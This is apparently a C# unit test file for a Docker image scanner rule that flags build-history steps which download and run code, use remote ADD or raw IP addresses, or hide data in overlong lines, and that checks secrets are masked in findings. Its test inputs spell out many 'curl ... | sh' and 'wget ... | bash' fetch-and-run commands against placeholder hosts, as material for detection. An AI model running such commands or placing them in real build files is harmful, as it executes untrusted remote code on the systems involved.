using DockerScan.Core.Findings;
using DockerScan.Core.Images;
using DockerScan.Scanners.ImageConfig;
using DockerScan.Scanners.Tests.Autorun;

namespace DockerScan.Scanners.Tests.ImageConfig;

public sealed class HistoryRuleTests
{
    [Theory]
    [InlineData("/bin/sh -c curl -fsSL http://198.51.100.7/install.sh | sh")]
    [InlineData("/bin/sh -c true || curl -fsSL http://198.51.100.7/install.sh | sh")]
    [InlineData("RUN /bin/sh -c wget -qO- https://x.example/i | bash -s -- --quiet # buildkit")]
    [InlineData("RUN |2 A=1 B=a b /bin/sh -c curl https://x.example/i | sh # buildkit")]
    [InlineData("|1 A=1 /bin/sh -c curl https://x.example/i | sh")]
    [InlineData("RUN /bin/bash -o pipefail -c curl https://x.example/i | sh # buildkit")]
    [InlineData("RUN /bin/sh -c apt-get update &&     curl -s https://x.example/i.py | python3 # buildkit")]
    [InlineData("RUN /bin/sh -c bash -c \"$(curl -fsSL https://x.example/i)\" # buildkit")]
    [InlineData("RUN /bin/sh -c set -e\ncurl -s https://x.example/i |\n  sh\n # buildkit")]
    [InlineData("RUN /bin/sh -c curl -o i https://x.example/i && chmod +x i && ./i # buildkit")]
    public void Look_FetchAndRun_IsMedium(string step)
    {
        var finding = Assert.Single(Look(step));

        Assert.Equal(("history-download-and-run", Severity.Medium, "cve.misconfiguration"), (finding.Id, finding.Severity, finding.Check));
        Assert.Contains("download-and-run.", finding.Evidence, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("/bin/sh -c #(nop)  CMD [\"sh\", \"-c\", \"curl http://x.example/a | sh\"]")]
    [InlineData("/bin/sh -c #(nop) ADD file:0123456789abcdef in / ")]
    [InlineData("COPY docker-entrypoint.sh /usr/local/bin/ # buildkit")]
    [InlineData("RUN /bin/sh -c apt-get update && apt-get install -y curl # buildkit")]
    [InlineData("RUN /bin/sh -c curl -fsSL https://x.example/k.asc | gpg --dearmor -o /usr/share/keyrings/k.gpg # buildkit")]
    [InlineData("RUN /bin/sh -c wget -O gosu https://x.example/gosu; echo \"$SUM *gosu\" | sha256sum -c -; chmod +x gosu; ./gosu --version # buildkit")]
    [InlineData("RUN /bin/sh -c wget https://x.example/i; gpg --batch --verify i.asc i; chmod +x i; ./i -y # buildkit")]
    [InlineData("RUN /bin/sh -c echo 'ADD http://x.example/a /' # buildkit")]
    [InlineData("ADD --checksum=sha256:00 https://x.example/a /a # buildkit")]
    [InlineData("")]
    public void Look_Ordinary_IsQuiet(string step) => Assert.Empty(Look(step));

    [Theory]
    [InlineData("ADD https://x.example/a.tgz /a.tgz # buildkit")]
    [InlineData("ADD --chown=1:1 http://x.example/a /a # buildkit")]
    [InlineData("/bin/sh -c #(nop) ADD https://x.example/a in /a ")]
    public void Look_RemoteAdd_IsLow(string step) => Assert.Equal(("history-remote-add", Severity.Low), (Assert.Single(Look(step)).Id, Assert.Single(Look(step)).Severity));

    [Theory]
    [InlineData(60_000, '.')]
    [InlineData(900_000, '$')]
    [InlineData(17_000, '%')]
    public void Look_LineMadeToBeUnreadable_IsAFindingWithoutTheSecret(int length, char character)
    {
        var finding = Assert.Single(Look("|1 TOKEN=hunter2" + new string(character, length) + " /bin/sh -c true"));

        Assert.Equal(("history-unreadable", Severity.Medium, "cve.misconfiguration", "history"), (finding.Id, finding.Severity, finding.Check, finding.Location));
        Assert.StartsWith("line 1: it has a word of ", finding.Evidence, StringComparison.Ordinal);
        Assert.DoesNotContain("hunter2", finding.Evidence, StringComparison.Ordinal);
    }

    [Fact]
    public void Look_LongLineOfOrdinaryWords_IsQuiet()
        => Assert.Empty(Look("RUN /bin/sh -c " + string.Concat(Enumerable.Repeat("apt-get install -y package && ", 20_000))));

    // Base64 as people write it into a build: one word, the same as an argument of printf, and lines of a here-document.
    public static TheoryData<string> Data => new()
    {
        new string('A', 100_000) + "==",
        string.Join("\\n", Enumerable.Repeat(new string('x', 76), 2000)),
        string.Join('\n', Enumerable.Repeat(new string('0', 76), 2000)),
    };

    [Theory]
    [MemberData(nameof(Data))]
    public void Look_LongData_IsNoGapAndHidesNothing(string data)
    {
        Assert.Empty(Look($"RUN /bin/sh -c echo {data} | base64 -d > /app/data # buildkit"));
        Assert.Equal("history-download-and-run", Assert.Single(Look($"RUN /bin/sh -c echo {data} | base64 -d > /app/data; curl https://x.example/i | sh # buildkit")).Id);
    }

    // What stands on both sides of the data belongs together.
    [Fact]
    public void Look_DataInsideOfACommand_HidesNothing()
        => Assert.Equal("history-download-and-run", Assert.Single(Look($"RUN /bin/sh -c curl https://x.example/{new string('a', 100_000)} | sh # buildkit")).Id);

    [Fact]
    public void Look_RawAddress_IsLow()
        => Assert.Equal("history-raw-address", Assert.Single(Look("RUN /bin/sh -c wget http://203.0.113.7/bins/x86 # buildkit")).Id);

    [Theory]
    [InlineData("RUN |2 TOKEN=hunter2 more PASSWORD=hunter3 /bin/sh -c curl https://x.example/i | sh # buildkit")]
    [InlineData("/bin/sh -c TOKEN=hunter2 curl https://x.example/i | sh")]
    [InlineData("/bin/sh -c TOKEN=\"a hunter2 \\\" hunter3\"; curl https://x.example/i | sh")]
    [InlineData("/bin/sh -c TOKEN='a hunter2'hunter3\"hunter4\"; curl https://x.example/i | sh")]
    [InlineData("/bin/sh -c curl https://user:hunter2@x.example/i | sh")]
    [InlineData("/bin/sh -c curl -H \"Authorization: Bearer hunter2\" https://x.example/i | sh")]
    [InlineData("/bin/sh -c curl -H 'X-Api-Token: hunter2' https://x.example/i | sh")]
    [InlineData("/bin/sh -c curl -u user:hunter2 https://x.example/i | sh")]
    [InlineData("/bin/sh -c curl --oauth2-token hunter2 https://x.example/i | sh -s -- --password hunter2")]
    [InlineData("/bin/sh -c curl https://x.example/i | sh && echo PASSWORD=\"hunter2 and no end")]
    [InlineData("ADD https://user:hunter2@x.example/a /a")]
    public void Look_Secrets_AreMasked(string step)
    {
        var finding = Assert.Single(Look(step));

        Assert.DoesNotContain("hunter", finding.Evidence + finding.Location + finding.Target, StringComparison.Ordinal);
    }

    [Fact]
    public void Look_TwoSteps_AreTwoFindings()
        => Assert.Equal(2, Look("/bin/sh -c curl https://x.example/1 | sh", "/bin/sh -c curl https://x.example/2 | sh").Select(finding => finding.Location).Distinct().Count());

    [Fact]
    public void Look_Hostile_IsBounded()
    {
        var findings = Look("/bin/sh -c " + new string('\u202e', 5000) + new string('|', 50_000) + " curl https://x.example/i | sh\n" + new string('a', 1_000_000));

        Assert.Equal(["history-unreadable", "history-download-and-run"], findings.Select(finding => finding.Id));
        Assert.All(findings, finding => Assert.True(finding.Evidence.Length <= 2000));
        Assert.All(findings, finding => Assert.DoesNotContain('\u202e', finding.Evidence));
    }

    private static List<FindingDraft> Look(params string[] steps)
        => RuleBed.Look(new HistoryRule(TestSignatures.All), new ImageConfiguration { History = [.. steps.Select(step => new HistoryEntry(step, null, false))] });
}
